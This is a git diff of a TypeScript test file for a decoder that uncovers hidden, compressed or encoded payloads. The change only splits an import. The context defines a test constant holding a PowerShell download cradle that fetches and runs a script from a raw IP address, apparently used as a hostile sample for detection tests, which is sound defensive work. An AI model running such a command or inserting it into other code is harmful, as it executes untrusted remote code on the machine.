@@ -3,7 +3,8 @@ import assert from 'node:assert/strict'
 import { test } from 'node:test'
 import { deflateRawSync, gzipSync } from 'node:zlib'
 import { hostileTexts } from '../../test/support/hostile-texts.ts'
-import { decodeHidden, findingsOfDecoded } from './decode.ts'
+import { decodeHidden } from './decode.ts'
+import { findingsOfDecoded } from './findings-of-decoded.ts'
 
 const texts = (text: string) => decodeHidden(text).decoded.map((each) => `${each.how}: ${each.text}`)
 const cradle = "IEX (New-Object Net.WebClient).DownloadString('http://193.142.146.35/a.ps1')"
